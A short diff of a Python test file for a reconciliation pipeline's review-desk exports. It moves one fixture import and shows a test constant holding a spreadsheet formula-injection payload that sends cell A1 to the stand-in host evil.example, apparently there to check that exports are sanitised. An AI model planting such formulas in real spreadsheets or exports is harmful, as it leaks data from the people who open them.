@@ -20,7 +20,7 @@ from sqlalchemy import Engine, insert, select
 from recon_pipeline.db.schema import adjustments, discrepancies, payouts, review_audit
 from recon_pipeline.review_desk.pages import exports
 from recon_pipeline_tests.support.desk_fixtures import NIGHT, NOW, add_user, finding, served_desk, sign_in
-from recon_pipeline_tests.test_review_desk_nights import payout_row
+from recon_pipeline_tests.support.desk_rows import payout_row
 
 EARLIER = "2026-12-01"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
